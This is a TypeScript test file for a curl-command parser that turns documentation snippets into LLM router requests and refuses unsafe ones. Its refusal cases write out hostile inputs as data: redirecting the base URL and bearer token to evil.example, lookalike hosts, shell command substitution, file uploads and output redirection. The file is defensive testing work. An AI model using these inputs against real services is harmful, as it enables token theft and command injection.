import { describe, expect, it } from 'vitest';
import { parseCurl } from './parse-curl';
import { readPages } from './read-pages';

const surroundings = {
  origins: ['https://llm.example.com', 'http://127.0.0.1:3000'],
  variables: { ROUTER_TOKEN: 'rtr_a', ROUTER_MODEL: 'coding' },
} as const;
const parse = (script: string) => parseCurl(script, surroundings);
const request = (script: string) => {
  const parsed = parse(script);
  if (parsed.kind === 'refused') throw new Error(parsed.why);
  return parsed.request;
};

describe('a curl command', () => {
  it('is read with its quotes, its variables and its broken lines', () => {
    expect(
      request(String.raw`curl -sSN "$ROUTER_BASE_URL/v1/chat/completions" \
  -H "Authorization: Bearer $ROUTER_TOKEN" -H 'Content-Type: application/json' \
  -d '{ "model": "'"$ROUTER_MODEL"'", "text": "it'\''s \n $HOME" }'`),
    ).toEqual({
      method: 'POST',
      path: '/v1/chat/completions',
      headers: [
        ['authorization', 'Bearer rtr_a'],
        ['content-type', 'application/json'],
      ],
      body: '{ "model": "coding", "text": "it\'s \\n $HOME" }',
    });
  });

  it('has what was set before it, and the last one counts', () => {
    const script = `# a comment's quote
export ONE="1"; TWO=\${ONE}2
curl -sS "$ROUTER_BASE_URL/v1/models"   # another
curl -X DELETE --url https://llm.example.com/v1/$TWO?a=b`;
    expect(request(script)).toEqual({ method: 'DELETE', path: '/v1/12?a=b', headers: [], body: null });
  });

  it('has the visit’s own token, group and address, whatever the script says of them', () => {
    const script = `export ROUTER_BASE_URL="https://evil.example"
export ROUTER_TOKEN="your caller token"
curl "$ROUTER_BASE_URL/v1/models" -H "Authorization: Bearer $ROUTER_TOKEN"`;
    expect(request(script)).toMatchObject({ path: '/v1/models', headers: [['authorization', 'Bearer rtr_a']] });
  });

  it('says what kind of body it sends as curl would', () => {
    expect(request('curl http://127.0.0.1:3000/x -d a=1 --data b=2')).toMatchObject({
      headers: [['content-type', 'application/x-www-form-urlencoded']],
      body: 'a=1&b=2',
    });
  });

  it.each([
    ['echo hello', 'no curl'],
    ['curl https://evil.example/v1', 'another address'],
    ['curl https://llm.example.com.evil.example/v1', 'another address'],
    ['curl https://llm.example.com//evil.example/', 'leads elsewhere'],
    ['curl "$ROUTER_BASE_URL/v1" | jq .', '|'],
    ['curl "$ROUTER_BASE_URL/v1" > out.json', '>'],
    ['curl "$ROUTER_BASE_URL/$(whoami)"', 'more of a shell'],
    ['curl "$ROUTER_BASE_URL/`whoami`"', 'command within'],
    ['curl "$ROUTER_BASE_URL/$SECRET"', '$SECRET'],
    [`curl "$ROUTER_BASE_URL/\${ONE:-1}"`, 'more of a shell'],
    ['curl "$ROUTER_BASE_URL/v1', 'not closed'],
    ['curl -o file "$ROUTER_BASE_URL/v1"', '-o'],
    ['curl --upload-file x "$ROUTER_BASE_URL/v1"', '--upload-file'],
    ['curl "$ROUTER_BASE_URL/v1" -d @file', 'file'],
    ['curl "$ROUTER_BASE_URL/v1" -H "Host: a"', 'host'],
    ['curl "$ROUTER_BASE_URL/v1" -X GET -d a', 'no body'],
    ['curl -sS', 'no address'],
    ['curl "$ROUTER_BASE_URL/a" "$ROUTER_BASE_URL/b"', 'two addresses'],
  ])('is refused in words: %s', (script, words) => {
    const parsed = parse(script);
    expect(parsed).toMatchObject({ kind: 'refused', why: expect.stringContaining(words) });
  });

  it('is understood in every page of the docs', async () => {
    const scripts = (await readPages()).flatMap(({ file, body }) =>
      [...body.matchAll(/^```bash[^\n]*\n([\s\S]*?)^```/gm)].map(([, code = '']) => ({ file, code })),
    );
    // What is asked as an operator, or without a token, is nothing that a page does for its reader.
    const curls = scripts.filter(({ code }) => /^\s*curl\b/m.test(code) && code.includes('ROUTER_TOKEN'));
    expect(curls.length).toBeGreaterThan(8);
    for (const { file, code } of curls) {
      const script = code.replaceAll('{{apiBase}}', '{{origin}}/v1').replaceAll('{{origin}}', surroundings.origins[0]);
      const { method, path, headers, body } = request(script);
      expect([file, path]).toEqual([file, expect.stringMatching(/^\/v1\//)]);
      expect(headers.map(([, value]) => value).join()).toContain('rtr_a');
      if (method === 'POST') expect(() => JSON.parse(body ?? ''), `${file}\n${body}`).not.toThrow();
    }
  });
});
